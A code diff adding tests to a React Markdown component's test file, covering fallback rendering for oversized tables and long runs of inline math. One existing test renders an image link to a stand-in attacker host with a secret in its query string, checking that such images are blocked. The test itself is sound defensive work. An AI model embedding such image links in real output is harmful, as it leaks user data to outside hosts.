@@ -2,6 +2,7 @@ import { cleanup, fireEvent, render } from '@testing-library/react';
 import fc from 'fast-check';
 import { afterEach, describe, expect, it } from 'vitest';
 import { Markdown } from './markdown.js';
+import { INLINE_BUDGET, TABLE_BUDGET } from './markdown-node.js';
 import { AllowedImageOriginsContext } from '../media/media-policy.js';
 
 afterEach(cleanup);
@@ -166,6 +167,28 @@ describe('Markdown', () => {
     view.rerender(<Markdown text="![chart](https://evil.example/leak.png?d=secret)" complete />);
     expect(view.container.querySelector('img')).toBeNull();
     expect(view.getByRole('button', { name: 'Load image from evil.example' })).toBeTruthy();
+  });
+
+  it('a table past its budget (3,000 columns) shows as text with a note; one within it renders as a table', () => {
+    const row = (cells: number) => `| ${Array.from({ length: cells }, (_, index) => `c${index}`).join(' | ')} |`;
+    const table = (cells: number) => [row(cells), `| ${Array.from({ length: cells }, () => '---').join(' | ')} |`, row(cells)].join('\n');
+    const wide = render(<Markdown text={table(3000)} complete />);
+    expect(wide.container.querySelector('table')).toBeNull();
+    const source = wide.container.querySelector('.acu-markdown__table-source[data-state="too-large"]')!;
+    expect(source.querySelector('code')!.textContent).toContain('| c0 | c1 | c2 |');
+    expect(source.textContent).toContain('Too large to draw: shown as source.');
+    cleanup();
+    const fine = render(<Markdown text={table(TABLE_BUDGET.maxColumns)} complete />);
+    expect(fine.container.querySelectorAll('th')).toHaveLength(TABLE_BUDGET.maxColumns);
+  });
+
+  it('a block renders its first inline children as elements, the rest (25,000 formulas) as their source text', () => {
+    const { container } = render(<Markdown text={'$a'.repeat(50_000)} complete />);
+    const paragraph = container.querySelector('p')!;
+    expect(paragraph.querySelectorAll('.acu-math')).toHaveLength(INLINE_BUDGET / 2);
+    const tail = paragraph.querySelector('.acu-markdown__inline-tail')!;
+    expect(tail.textContent!.startsWith('$a$a$a')).toBe(true);
+    expect(paragraph.textContent!.length).toBeGreaterThan(75_000);
   });
 
   it('renders 3,000 nested blockquotes and lists without overflowing the stack: the deep text shows as text', () => {
